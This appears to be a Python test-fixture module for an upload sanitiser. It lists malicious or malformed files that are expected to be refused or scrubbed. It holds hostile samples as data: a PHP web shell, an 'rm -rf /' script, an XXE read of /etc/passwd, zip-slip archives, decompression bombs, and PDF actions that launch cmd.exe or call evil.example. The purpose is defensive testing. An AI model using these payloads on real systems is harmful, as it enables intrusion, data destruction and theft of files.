"""Files that somebody sends in order to run, hide, fill or tell something, by name: the same on the core and over HTTP.

``REFUSED``: the file, the type it is said to be, and why it is refused. ``CLEANED``: files that are pictures as well,
and what is left of them. ``TELLTALE``: what no file that is given out may have in it.
"""

# ruff: noqa: E501 - a file a line

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib

from scenarios.files import GIF, HEIC, HTML, PAGE, SVG, ZIP, chunk, exif, jpeg, packed, pdf, png, riff, segment, webp

PNG, JPEG, WEBP, PDF = "image/png", "image/jpeg", "image/webp", "application/pdf"
TELLTALE = (b"<script", b"<svg", b"alert(", b"52.52", b"GPS", b"/JavaScript", b"/Launch", b"<?php", b"javascript:")
JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"


def _archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../evil.html", HTML + bytes(1 << 20))
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        file.addfile(tarfile.TarInfo("../../evil.sh"))
    return out.getvalue()


def _unsaid(objects: bytes, head: bytes) -> bytes:
    """Packed objects under another head than the usual one."""
    body = zlib.compress(b"9 0 " + objects)
    return head % len(body) + b"\nstream\n" + body + b"\nendstream"


def _bomb(name: bytes, size: int) -> bytes:
    return chunk(b"iCCP", name + b"\0\0" + zlib.compress(bytes(size)))


def _stream(head: bytes, body: bytes) -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (head, len(body), body)


def _image(body: bytes, filters: bytes = b"/DCTDecode") -> bytes:
    """A photo on a sheet, as programs that scan put it there."""
    return _stream(b"/Type /XObject /Subtype /Image /Width 3 /Height 2 /Filter " + filters, body)


def _names(*words: bytes) -> bytes:
    """What a document says of itself. words: who made it, and with what."""
    return b"<< /Title (Invoice) /Author (%b) /Creator <%b> /Producer (%b) /CreationDate (%b) >>" % words


def _again(words: bytes) -> bytes:
    """Packed objects in a stream of the length they had with the place in them."""
    before, after = (zlib.compress(b"9 0 << /Author (%b) >>" % one, 9) for one in (b"GPS 52.52", words))
    return _unsaid_packed(after.ljust(len(before), b"\0"))


def _unsaid_packed(body: bytes) -> bytes:
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream" % (
        len(body),
        body,
    )


SHOT = jpeg(segment(0xE1, exif()), segment(0xFE, b"at home"))
SHOT_LEFT = jpeg(segment(0xE1, bytes(len(exif()))), segment(0xFE, bytes(7)))
XMP = b"<x:xmpmeta>GPS 52.52</x:xmpmeta>"

REFUSED: dict[str, tuple[bytes, str, str]] = {
    "nothing": (b"", PNG, "empty"),
    "one byte": (b"\xff", JPEG, "type"),
    "null bytes": (bytes(5000), PNG, "type"),
    "words": (b"hello", PNG, "type"),
    # Pages and programs that call themselves pictures.
    "svg with a script": (SVG, PNG, "type"),
    "svg in xml": (b"<?xml version='1.0'?>" + SVG, PNG, "type"),
    "svg behind a mark of byte order": (b"\xef\xbb\xbf" + SVG, PNG, "type"),
    "svg that is packed": (gzip.compress(SVG), PNG, "type"),
    "svg that loads another": (b"<svg xmlns='http://www.w3.org/2000/svg'><use href='javascript:x'/></svg>", PNG, "type"),
    "xml with an entity": (b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", PDF, "type"),
    "xml that grows": (b"<!DOCTYPE l [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;'>]><l>&b;</l>", PDF, "type"),
    "page": (HTML, JPEG, "type"),
    "page behind a mark of byte order": (b"\xef\xbb\xbf" + HTML, JPEG, "type"),
    "page behind white space": (b"\r\n\t " * 200 + HTML, JPEG, "type"),
    "page in sixteen bits": (HTML.decode().encode("utf-16"), JPEG, "type"),
    "page before a picture": (HTML + png(), PNG, "type"),
    "page before a document": (HTML + pdf(), PDF, "type"),
    "page in the middle of a photo's head": (b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + HTML, JPEG, "damaged"),
    "saved mail with a page": (b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML, JPEG, "type"),
    "program of php": (b"<?php system($_GET['c']); ?>", JPEG, "type"),
    "program of a shell": (b"#!/bin/sh\nrm -rf /\n", PNG, "type"),
    "program of windows": (b"MZ" + bytes(100), PNG, "type"),
    "program of linux": (b"\x7fELF\x02\x01\x01" + bytes(60), PNG, "type"),
    "program of java": (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), PNG, "type"),
    "program for the web": (b"\0asm\x01\0\0\0" + bytes(60), PNG, "type"),
    "film of flash": (b"FWS\x08" + bytes(60), PNG, "type"),
    "shortcut of windows": (b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0" + bytes(60), PNG, "type"),
    "postscript": (b"%!PS-Adobe-3.0\n(cmd) run\n", PDF, "type"),
    # Pictures of kinds that are not taken, scripts among them.
    "gif that is a script": (GIF, JPEG, "type"),
    "gif behind which a page stands": (b"GIF89a" + bytes(20) + HTML, "image/webp", "type"),
    "bitmap that is a script": (b"BM/*" + bytes(60) + b"*/=1;alert(1)", PNG, "type"),
    "icon": (b"\0\0\x01\0\x01\0" + bytes(60), PNG, "type"),
    "tiff with a place": (b"II*\0" + exif()[10:] + bytes(60), JPEG, "type"),
    "heic with a place": (HEIC + exif(), JPEG, "type"),
    "avif": (b"\0\0\0\x20ftypavif\0\0\0\0avifmif1miaf" + bytes(40), WEBP, "type"),
    "film": (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(40), PNG, "type"),
    "sound in riff": (b"RIFF\x24\0\0\0WAVEfmt " + bytes(40), WEBP, "damaged"),
    # Archives, and bombs.
    "archive": (_archive(), PDF, "type"),
    "archive that begins and never ends": (ZIP, PDF, "type"),
    "archive of tapes": (_tar(), PDF, "type"),
    "archive of seven": (b"7z\xbc\xaf\x27\x1c" + bytes(40), PDF, "type"),
    "archive of roshal": (b"Rar!\x1a\x07\x01\0" + bytes(40), PDF, "type"),
    "letter of an office": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), PDF, "type"),
    "bomb of zeros": (gzip.compress(bytes(8 << 20)), PDF, "type"),
    "bomb in a colour profile": (png(before=_bomb(b"icc", 8 << 20)), PNG, "damaged"),
    "colour profile that is none": (png(before=chunk(b"iCCP", b"icc\0\0" + HTML)), PNG, "damaged"),
    "bomb in packed objects": (pdf(packed(bytes(17 << 20))), PDF, "damaged"),
    "document that is an archive": (
        pdf(b"<< /Length 40 >>\nstream\nPK\x01\x02" + bytes(40) + b"PK\x05\x06" + bytes(18) + b"\nendstream"),
        PDF,
        "type",
    ),
    # Pictures larger than they may be, or other than they say.
    "picture of fifty million pixels": (png(width=10_000, height=5_000), PNG, "too_wide"),
    "picture as wide as can be said": (png(width=0x7FFF_FFFF, height=1), PNG, "too_wide"),
    "picture of no width": (png(width=0), PNG, "too_wide"),
    "photo as wide as can be said": (jpeg(width=60_000, height=60_000), JPEG, "too_wide"),
    "photo of no height": (jpeg(height=0), JPEG, "too_wide"),
    "webp as wide as can be said": (webp(width=16_000, height=16_000), WEBP, "too_wide"),
    "webp whose cover is larger": (riff((b"VP8X", bytes(4) + b"\xff" * 6), (b"VP8L", b"\x2f" + bytes(12))), WEBP, "too_wide"),
    "picture that moves": (png(before=chunk(b"acTL", bytes(8))), PNG, "animated"),
    "webp that moves": (riff((b"VP8X", b"\x02" + bytes(9)), (b"ANIM", bytes(6))), WEBP, "animated"),
    "picture cut short": (png()[:40], PNG, "damaged"),
    "picture without its end": (png()[:-9], PNG, "damaged"),
    "picture whose sum is wrong": (png()[:-6] + b"\0\0\0\0" + png()[-2:], PNG, "damaged"),
    "picture with a length beyond its end": (png()[:8] + b"\xff\xff\xff\xff" + png()[12:], PNG, "damaged"),
    "picture with a piece nobody knows": (png(before=chunk(b"CgBI", bytes(4))), PNG, "damaged"),
    "picture with two heads": (png(before=chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 2, 0, 0, 0))), PNG, "damaged"),
    "photo cut short": (jpeg()[:30], JPEG, "damaged"),
    "photo without its end": (jpeg()[:-2], JPEG, "damaged"),
    "photo with a segment of no length": (b"\xff\xd8\xff\xe1\0\0" + jpeg()[2:], JPEG, "damaged"),
    "photo with a segment beyond its end": (b"\xff\xd8\xff\xe1\xff\xff" + jpeg()[2:], JPEG, "damaged"),
    "webp cut short": (webp()[:-4], WEBP, "damaged"),
    "webp with a piece beyond its end": (webp()[:16] + b"\xff\xff\xff\x7f" + webp()[20:], WEBP, "damaged"),
    # Documents that do something.
    "document with a script": (pdf(JS), PDF, "active"),
    "document that runs when it opens": (pdf(b"<< /OpenAction " + JS + b" >>"), PDF, "active"),
    "document that runs when a page opens": (pdf(b"<< /AA << /O " + JS + b" >> >>"), PDF, "active"),
    "document that calls somewhere when it opens": (pdf(b"<< /OpenAction << /S /URI /URI (https://evil.example) >> >>"), PDF, "active"),
    "document that calls somewhere by an object": (pdf(b"<< /Open#41ction%\n 9 0 R >>"), PDF, "active"),
    "document that calls somewhere when a page opens": (pdf(b"<< /AA << /O << /S /URI /URI (https://evil.example) >> >> >>"), PDF, "active"),
    "document that acts by an object": (pdf(b"<< /A#41 9 0 R >>"), PDF, "active"),
    "document that calls somewhere, packed": (pdf(packed(b"<< /OpenAction << /S /URI /URI (https://evil.example) >> >>")), PDF, "active"),
    "document that acts on a page, packed": (pdf(packed(b"<< /AA << /O << /S /URI /URI (x) >> >> >>")), PDF, "active"),
    "document with a photo that is packed again": (pdf(_image(zlib.compress(SHOT), b"[/FlateDecode /DCTDecode]")), PDF, "traces"),
    "document whose maker's name is packed by itself": (pdf(b"<< /Author 77 0 R >>"), PDF, "traces"),
    "document whose maker's name never ends": (pdf(b"<< /Author ((a) >>"), PDF, "traces"),
    "document whose script has another spelling": (pdf(b"<< /S /J#61vaScript >>"), PDF, "active"),
    "document that starts a program": (pdf(LAUNCH), PDF, "active"),
    "document that starts a program by another spelling": (pdf(LAUNCH.replace(b"/Launch", b"/#4c#61unch")), PDF, "active"),
    "document that sends a form": (pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"), PDF, "active"),
    "document that opens one inside": (pdf(b"<< /S /GoToE /T << /R /C >> >>"), PDF, "active"),
    "document that opens one elsewhere": (pdf(b"<< /S /GoToR /F (//evil.example/x) >>"), PDF, "active"),
    "document that plays a film": (pdf(b"<< /S /Rendition /OP 0 >>"), PDF, "active"),
    "document with a form of another kind": (pdf(b"<< /AcroForm << /XFA (x) >> >>"), PDF, "active"),
    "document with files inside": (pdf(b"<< /Names << /EmbeddedFiles 2 0 R >> >>"), PDF, "active"),
    "document with a file beside a note": (pdf(b"<< /Subtype /FileAttachment /FS 5 0 R >>"), PDF, "active"),
    "script in packed objects": (pdf(packed(JS)), PDF, "active"),
    "script in packed objects, spelt otherwise": (pdf(packed(b"<< /S /J#61vaScript >>")), PDF, "active"),
    "script in objects whose packing is spelt otherwise": (pdf(packed(JS).replace(b"/ObjStm", b"/Obj#53tm")), PDF, "active"),
    "script in objects with a remark in their head": (
        pdf(packed(JS).replace(b"/Type /ObjStm", b"/Type%\n/ObjStm")),
        PDF,
        "active",
    ),
    "script in packed objects that do not say so": (
        pdf(_unsaid(JS, b"<< /N 1 /First 4 /Filter /FlateDecode /Length %d >>")),
        PDF,
        "active",
    ),
    "script in packed objects behind a false head": (
        pdf(_unsaid(JS, b"<< /N 1 /First 4 /X (1 0 obj <<) /Filter /FlateDecode /Length %d >>")),
        PDF,
        "active",
    ),
    "packed objects taken apart": (
        pdf(packed(JS).replace(b"/Length", b"/DecodeParms << /Predictor 12 >> /Length")),
        PDF,
        "damaged",
    ),
    "packed objects taken apart that do not say so": (
        pdf(_unsaid(JS, b"<< /N 1 /First 4 /DecodeParms << /Predictor 12 >> /Filter /FlateDecode /Length %d >>")),
        PDF,
        "damaged",
    ),
    "packed objects that cannot be read": (pdf(packed(b"", b"no such packing")), PDF, "damaged"),
    "document under lock": (pdf(b"<< /Encrypt 3 0 R >>"), PDF, "locked"),
    "document of nothing": (b"%PDF-1.7\n%%EOF\n", PDF, "damaged"),
    "document without an end": (pdf(end=b""), PDF, "damaged"),
    "document that is a page": (b"%PDF-1.7\n" + HTML + b"\nstartxref\n9\n%%EOF\n", PDF, "damaged"),
    "document behind which a page stands": (pdf(after=HTML), PDF, "damaged"),
    "document without a sheet": (pdf(page=b"<< /Kids [] /Type /Pages >>"), PDF, "damaged"),
    "document whose table is beyond its end": (pdf().replace(b"startxref\n", b"startxref\n9"), PDF, "damaged"),
    # Files that are something, and not what they are said to be.
    "picture that is said to be a photo": (png(), JPEG, "type"),
    "photo that is said to be a document": (jpeg(), PDF, "type"),
}  # fmt: skip

CLEANED: dict[str, tuple[bytes, str, bytes]] = {
    "picture behind which a page stands": (png(after=HTML), PNG, png()),
    "picture behind which an archive stands": (png(after=_archive()), PNG, png()),
    "picture with a script in its words": (png(before=chunk(b"tEXt", b"Comment\0" + HTML)), PNG, png()),
    "picture with packed words": (png(before=chunk(b"zTXt", b"a\0\0" + zlib.compress(HTML))), PNG, png()),
    "picture with words of all languages": (png(before=chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SVG)), PNG, png()),
    "picture with a place": (png(before=chunk(b"eXIf", b"GPS 52.52,13.40")), PNG, png()),
    "picture with a time": (png(before=chunk(b"tIME", bytes(7))), PNG, png()),
    "picture with a piece of its maker's": (png(before=chunk(b"evIl", HTML)), PNG, png()),
    "photo behind which a page stands": (jpeg(after=HTML), JPEG, jpeg()),
    "photo behind which an archive stands": (jpeg(after=_archive()), JPEG, jpeg()),
    "photo with a script in a remark": (jpeg(segment(0xFE, HTML)), JPEG, jpeg()),
    "photo that is a script": (b"\xff\xd8\xff\xe0\x2f\x2a" + b"=1;alert(1)//".ljust(0x2F2A - 2, b" ") + jpeg()[2:], JPEG, jpeg()),
    "photo with a page for a head": (jpeg(segment(0xE0, HTML)), JPEG, jpeg()),
    "photo with a smaller one beside it": (jpeg(segment(0xE0, b"JFXX\0\x10" + jpeg(segment(0xE1, exif())))), JPEG, jpeg()),
    "photo with a place": (jpeg(segment(0xE1, exif(turned=1))), JPEG, jpeg()),
    "photo with a place in xmp": (jpeg(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0GPS 52.52")), JPEG, jpeg()),
    "photo with what a studio wrote": (jpeg(segment(0xED, b"Photoshop 3.0\0GPS 52.52")), JPEG, jpeg()),
    "photo with more pictures inside": (jpeg(segment(0xE2, b"MPF\0" + b"GPS 52.52")), JPEG, jpeg()),
    "webp with a place": (webp((b"EXIF", b"GPS 52.52,13.40")), WEBP, webp()),
    "webp with a page in xmp": (webp((b"XMP ", HTML)), WEBP, webp()),
    "webp with a piece of its maker's": (webp((b"EVIL", SVG)), WEBP, webp()),
    "webp behind which a page stands": (webp() + HTML, WEBP, webp()),
    "document with a photo and its place": (pdf(_image(SHOT + b"GPS 52.52")), PDF, pdf(_image(SHOT_LEFT + bytes(9)))),
    "document with a place in xmp": (pdf(_stream(b"/Type /Metadata /Subtype /XML", XMP)), PDF, pdf(_stream(b"/Type /Metadata /Subtype /XML", b" " * len(XMP)))),
    "document with packed xmp": (
        pdf(_stream(b"/Type /Metadata /Filter /FlateDecode", zlib.compress(XMP))),
        PDF,
        pdf(_stream(b"/Type /Metadata /Filter /FlateDecode", zlib.compress(b"").ljust(len(zlib.compress(XMP)), b"\0"))),
    ),
    "document that says who made it": (
        pdf(_names(b"GPS \\) 52.52 (x)", b"475053", b"GPS", b"D:2026")),
        PDF,
        pdf(_names(b" " * 16, b" " * 6, b"   ", b"      ")),
    ),
    "document whose maker's name is an object": (
        pdf(b"(GPS 52.52)", page=PAGE[:-2] + b"/Author 4 0 R >>"),
        PDF,
        pdf(b"(" + b" " * 9 + b")", page=PAGE[:-2] + b"/Author 4 0 R >>"),
    ),
    "document that says in packed objects who made it": (pdf(_again(b"GPS 52.52")), PDF, pdf(_again(b" " * 9))),
    "document that opens at a place": (pdf(b"<< /OpenAction [3 0 R /Fit] /AA8 (AA) >>"), PDF, pdf(b"<< /OpenAction [3 0 R /Fit] /AA8 (AA) >>")),
}  # fmt: skip
